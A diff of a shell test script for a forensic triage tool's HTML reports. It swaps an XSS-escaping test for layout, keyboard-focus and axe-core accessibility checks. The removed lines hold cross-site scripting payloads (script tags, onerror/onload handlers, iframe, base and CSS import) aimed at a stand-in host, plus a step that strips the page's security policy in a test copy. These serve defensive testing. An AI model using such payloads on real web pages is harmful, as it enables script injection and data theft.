@@ -1,122 +1,181 @@
 #!/bin/sh
 # SPDX-License-Identifier: Apache-2.0
-# Pages in a browser: names that attack whoever reads them stay text, nothing
-# is requested and nothing runs; and axe-core, where it is installed (below
-# AXE, node_modules or build/axe), finds nothing that keeps somebody out, in
-# light and in dark.
+# Pages of every kind in a browser, wide and narrow, in light and in dark: the
+# HTML parser sees the very elements that we wrote, nothing but a box that says
+# so is wider than the window, and who moves by keyboard sees where they are.
+# Where axe-core is installed (AXE, node_modules or build/axe) it finds nothing
+# that keeps somebody out.
 set -eu
-build=${top_builddir:?}
-browser=$(command -v chromium || command -v chromium-browser || true)
-[ -n "$browser" ] || exit 77
-work=$(mktemp -d)
-trap 'rm -rf "$work"' EXIT
-fetch=http://canary.invalid/stolen
-
-cat >"$work/hostile.scenario" <<'END'
-# Each text is an attack of its own on a page that shows it.
-day 2026-03-02
-program setup content setup-1
-  Image: C:\Users\ann\Downloads\<img src="http://canary.invalid/stolen" onerror="document.title='ran'">\setup.exe
-  Company: "><script src="http://canary.invalid/stolen"></script>
-  Product: <svg onload="document.title='ran'">
-  CommandLine: setup.exe "><iframe src="http://canary.invalid/stolen">
-program powershell content powershell-1
-  Image: C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
-  CommandLine: powershell </title></style></svg><script>document.title='ran'</script><link rel=stylesheet href="http://canary.invalid/stolen"><a href="javascript:document.title='ran'">
-host H machine-id 1
-log H/Sysmon.evtx sysmon
-process run setup at 09:00:00
-  System/Computer: <script>document.title='ran'</script><base href="http://canary.invalid/stolen">
-file C:\x.exe by setup
-  TargetFilename: C:\<style>@import "http://canary.invalid/stolen"</style>\' onfocus='document.title=1.exe
-  System/Computer: <script>document.title='ran'</script><base href="http://canary.invalid/stolen">
-process run powershell parent setup at 09:00:02
-  System/Computer: <script>document.title='ran'</script><base href="http://canary.invalid/stolen">
-END
-"$build/tests/evtxgen/evtxgen" "$work/hostile.scenario" "$work/evidence"
-"$build/tests/evtxgen/evtxgen" \
-    "${top_srcdir:?}/testdata/scenarios/two-hosts.scenario" "$work/evidence"
-"$build/stemma" triage "$work/evidence" -o "$work/case" \
-    --case-id '<img src=x onerror="document.title=1">' >/dev/null
-
-# open_page PAGE OUT [OPTION...]: what the page is after its scripts ran.
-open_page() {
-    page=$1 out=$2
-    shift 2
-    HOME=$work timeout 60 "$browser" --headless --no-sandbox --disable-gpu \
-        --no-first-run --disable-background-networking \
-        --virtual-time-budget=20000 --log-net-log="$work/net.json" "$@" \
-        --dump-dom "file://$page" >"$out" 2>/dev/null || exit 77
-    [ -s "$out" ] || exit 77
-}
-
-# The test sees what it looks for: the same attack, unescaped.
-printf '<title>t</title><img src="%s"><script>document.title="ran"</script>' \
-    "$fetch" >"$work/control.html"
-open_page "$work/control.html" "$work/control.dom"
-grep -q '<title>ran</title>' "$work/control.dom"
-grep -q "$fetch" "$work/net.json" || exit 77
-
-hostile=$(find "$work/case/hosts" -name report.html | grep script)
-ann=$work/case/hosts/ws-ann/report.html
-for page in "$work/case/index.html" "$hostile"; do
-    # A folder of such a name is for links; here it is in the way.
-    cp "$page" "$work/page.html"
-    open_page "$work/page.html" "$work/page.dom"
-    if grep -q 'canary.invalid' "$work/net.json"; then
-        echo "$page made the browser ask for something"
-        exit 1
-    fi
-    if grep -qE '<title>(ran|1)</title>|<(script|iframe|img|link|base)\b' \
-        "$work/page.dom"; then
-        echo "$page made of a name what it says"
-        exit 1
-    fi
-    grep -q 'canary.invalid\|onerror' "$work/page.dom"
-done
+# shellcheck source=tests/browser.sh
+. "${top_srcdir:?}/tests/browser.sh"
 
 for axe in "${AXE:-}" "$build/axe/node_modules/axe-core/axe.min.js" \
-    "${top_srcdir:?}/node_modules/axe-core/axe.min.js" ''; do
+    "$top_srcdir/node_modules/axe-core/axe.min.js" ''; do
     [ -n "$axe" ] && [ -f "$axe" ] && break
 done
-[ -n "$axe" ] || {
-    echo "axe-core is not installed: the pages are not checked with it"
-    exit 0
+[ -z "$axe" ] || cp "$axe" "$work/axe.js"
+
+# Hosts with incidents, with nothing found, without Sysmon, with losses, and
+# with more findings than a screen holds.
+cat >"$work/it.scenario" <<'END'
+day 2026-03-02
+program setup content setup-1
+  Image: C:\Users\ann\Downloads\a-very-long-name-of-an-installer-that-no-line-holds-whatever-it-does-0123456789-0123456789-0123456789\setup.exe
+  Company: Contoso Ltd
+program shell content shell-1
+  Image: C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
+host A-HOST-WITH-A-VERY-LONG-NAME-THAT-NO-PHONE-SHOWS-IN-A-LINE.a-long-domain.adatum.example machine-id 1
+log many.evtx sysmon
+process run setup at 09:00:00
+repeat 4 every 600s
+process run setup at 10:00:00
+process run shell parent setup at +1
+  CommandLine: powershell -EncodedCommand AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
+end
+host BLIND machine-id 2
+log blind.evtx security
+security 4624 at 09:00:00
+END
+"$build/tests/evtxgen/evtxgen" "$work/it.scenario" "$work/evidence"
+for scenario in two-hosts damaged; do
+    "$build/tests/evtxgen/evtxgen" \
+        "$top_srcdir/testdata/scenarios/$scenario.scenario" "$work/evidence"
+done
+"$build/stemma" triage "$work/evidence" -o "$work/case" >/dev/null 2>&1 ||
+    [ $? = 3 ]
+cd "$work/case/hosts"
+grep -q '>not checked<' blind/report.html
+grep -q 'Nothing was lost' ../index.html && exit 1
+set -- ../index.html a-host-*/report.html blind/report.html cut-1/report.html \
+    sound-1/report.html ws-ann/report.html
+
+# Tells the frame around it what there is; it stays quiet in a page alone.
+cat >"$work/look.js" <<'END'
+function tree(e, depth) {
+    return [].map.call(e.children, function (c) {
+        return c.localName === 'script' ? '' :
+            depth + c.localName + '\n' + tree(c, depth + 1);
+    }).join('');
+}
+function look() {
+    var said = [], elements = tree(document, 0);
+    var skip = document.querySelector('.skip'), box;
+    if (document.documentElement.scrollWidth > innerWidth)
+        said.push('WIDE ' + document.documentElement.scrollWidth + ' in ' +
+                  innerWidth);
+    skip.focus();
+    box = skip.getBoundingClientRect();
+    if (document.hasFocus() && (box.left < 0 || !box.width))
+        said.push('HIDDEN skip link');
+    [].forEach.call(document.querySelectorAll('.wide'), function (e) {
+        if (e.scrollWidth > e.clientWidth && e.tabIndex !== 0)
+            said.push('UNREACHED ' + e.getAttribute('aria-label'));
+    });
+    [].forEach.call(document.querySelectorAll('td, th, dd, li, p, h1, h2, h3'),
+        function (e) {
+            if (e.closest('.wide') || e.closest('caption')) return;
+            if (e.getBoundingClientRect().right > innerWidth + 1)
+                said.push('CUT ' + e.outerHTML.slice(0, 200));
+        });
+    function done() { parent.postMessage([elements, said.join('\n')], '*'); }
+    if (!window.axe) return done();
+    axe.run(document, {
+        rules: { 'target-size': { enabled: true } }
+    }).then(function (r) {
+        if (r.passes.length < 10) said.push('AXE DID NOT LOOK');
+        r.violations.forEach(function (v) {
+            said.push('AXE ' + v.id + ': ' + v.help + '\n  ' +
+                v.nodes.slice(0, 3).map(function (n) {
+                    return n.html.slice(0, 200) + ' ' +
+                        (n.failureSummary || '').slice(0, 300);
+                }).join('\n  '));
+        });
+        done();
+    });
+}
+if (parent !== window) look();
+END
+# One page after the other in a frame, of two widths.
+cat >"$work/frames.js" <<'END'
+var jobs = [], frame, said = '', seen = {};
+for (var i = 0; i < pages; i++) jobs.push([i, 1400], [i, 390]);
+function next() {
+    if (frame) frame.remove();
+    if (!jobs.length) {
+        document.body.textContent = said + 'LOOKED AT ALL\n';
+        return;
+    }
+    frame = document.createElement('iframe');
+    frame.style.cssText = 'border:0;color-scheme:' + scheme +
+        ';height:900px;width:' + jobs[0][1] + 'px';
+    frame.src = jobs[0][0] + '.html';
+    document.body.append(frame);
+}
+onmessage = function (m) {
+    var job = jobs.shift();
+    if (job[1] === 390)
+        said += 'TREE ' + job[0] + '\n' + m.data[0] + 'END\n';
+    if (m.data[1])
+        said += 'BAD page ' + job[0] + ' at ' + job[1] + ': ' + m.data[1] + '\n';
+    next();
+};
+next();
+END
+
+# The elements of a page as we wrote them, with their depth.
+written() {
+    body_with "$1" | sed "s/<!DOCTYPE[^>]*>//; s/</\n</g" | awk '
+        /^<\// { depth--; next }
+        /^<[a-z]/ {
+            name = substr($1, 2); sub(/[\/>].*/, "", name)
+            print depth + 0 name
+            tag = $0; sub(/>.*/, ">", tag)
+            if (tag !~ /\/>$/) depth++
+        }'
 }
 
-# The policy would keep axe-core out: it is taken off in this copy.
-cat >"$work/run.js" <<'END'
-axe.run(document, {
-    rules: { 'target-size': { enabled: true } }
-}).then(function (r) {
-    document.body.textContent = r.passes.length > 10 ? 'AXE LOOKED\n' : '';
-    r.violations.forEach(function (v) {
-        document.body.textContent += 'VIOLATION ' + v.id + ': ' + v.help +
-            '\n  ' + v.nodes.slice(0, 3).map(function (n) {
-                return n.html.slice(0, 200) + ' ' +
-                    (n.failureSummary || '').slice(0, 300);
-            }).join('\n  ') + '\n';
-    });
-});
-END
-for page in "$work/case/index.html" "$ann"; do
+n=0
+for page; do
     {
-        sed '1,/<body>/s/<meta http-equiv="Content-Security-Policy"[^>]*>//
-             s/<\/body>.*//' "$page"
-        printf '<script>'
-        cat "$axe"
-        printf '</script><script>'
-        cat "$work/run.js"
-        printf '</script></body></html>'
-    } >"$work/page.html"
-    for scheme in 1 0; do # light, dark
-        open_page "$work/page.html" "$work/page.dom" \
-            --blink-settings=preferredColorScheme=$scheme
-        grep -q 'AXE LOOKED' "$work/page.dom"
-        if grep -q 'VIOLATION' "$work/page.dom"; then
-            echo "$page (scheme $scheme):"
-            sed -n '/VIOLATION/,$p' "$work/page.dom"
-            exit 1
-        fi
-    done
+        body_with "$page"
+        [ -z "$axe" ] || printf '<script src="axe.js"></script>'
+        printf '<script src="look.js"></script></body></html>'
+    } >"$work/$n.html"
+    written "$page" >"$work/$n.written"
+    n=$((n + 1))
 done
+
+# look SCHEME SETTING: what is wrong with the pages in it.
+look() {
+    printf '<!DOCTYPE html><title>t</title><body style="width:1500px">
+        <script>var pages = %d, scheme = "%s"</script>
+        <script src="frames.js"></script></body>' $n "$1" >"$work/frames.html"
+    open_page "$work/frames.html" "$work/frames.dom" \
+        --blink-settings=preferredColorScheme="$2" --window-size=1500,1000
+    grep -q 'LOOKED AT ALL' "$work/frames.dom" || {
+        echo "the browser did not come through all pages"
+        exit 1
+    }
+}
+
+fail=0
+for scheme in 'light 1' 'dark 0'; do
+    # shellcheck disable=SC2086
+    look $scheme
+    if grep -q '^BAD' "$work/frames.dom"; then
+        echo "$*, $scheme:"
+        sed -n '/^BAD/,/^TREE\|^LOOKED/p' "$work/frames.dom" | grep -v '^TREE'
+        fail=1
+    fi
+done
+[ $fail = 0 ]
+i=0
+for page; do
+    sed -n "/TREE $i\$/,/^END/p" "$work/frames.dom" | sed '1d; $d' |
+        cmp - "$work/$i.written" || {
+        echo "$page is read as other elements than we wrote"
+        exit 1
+    }
+    i=$((i + 1))
+done
+[ -n "$axe" ] || echo "axe-core is not installed: the pages are not checked with it"
